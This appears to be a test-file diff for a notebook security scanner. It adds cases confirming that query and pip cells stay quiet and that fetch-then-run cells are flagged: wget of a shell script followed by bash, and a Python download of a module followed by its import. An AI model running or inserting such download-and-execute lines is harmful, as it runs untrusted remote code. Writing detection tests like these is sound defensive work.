@@ -84,6 +84,41 @@ describe.each([
   });
 });
 
+describe('what a notebook is used for', () => {
+  const saidOf = async (source: string): Promise<string[]> =>
+    (await inspect(indented(notebook([code(source)])))).findings.map(
+      ({ rule, severity }) => `${severity} ${rule}`,
+    );
+
+  it.each([
+    [
+      'a query',
+      '%%bigquery --project x\nSELECT * FROM t WHERE `a` = "b";\nSELECT 1 AS `é`;\nCREATE MODEL m;',
+    ],
+    ['a requirement that pip refuses', '%pip install thing=='],
+  ])('is quiet with %s', async (_, source) => {
+    expect(await saidOf(source)).toEqual([]);
+  });
+
+  const RAW = 'https://raw.githubusercontent.com/someone/project/main';
+  it.each([
+    ['a script', `!wget ${RAW}/setup.sh\n!bash setup.sh`, 'MEDIUM CODE-PIPE-SHELL'],
+    [
+      'a module',
+      `import requests\nopen("chains.py", "w").write(requests.get("${RAW}/chains.py").text)\nimport chains`,
+      'MEDIUM CODE-DOWNLOAD-EXECUTE',
+    ],
+    ['a script of anybody', '!wget https://example.invalid/setup.sh\n!bash setup.sh', 'HIGH CODE-PIPE-SHELL'],
+    [
+      'a module of anybody',
+      'import requests\nopen("chains.py", "w").write(requests.get("https://example.invalid/chains.py").text)\nimport chains',
+      'HIGH CODE-DOWNLOAD-EXECUTE',
+    ],
+  ])('is told of %s that it fetches', async (_, source, said) => {
+    expect(await saidOf(source)).toEqual([said]);
+  });
+});
+
 describe('a command that Python knows more of than a shell', () => {
   const rulesOf = async (source: string): Promise<string[]> =>
     (await inspect(indented(notebook([code(source)])))).findings
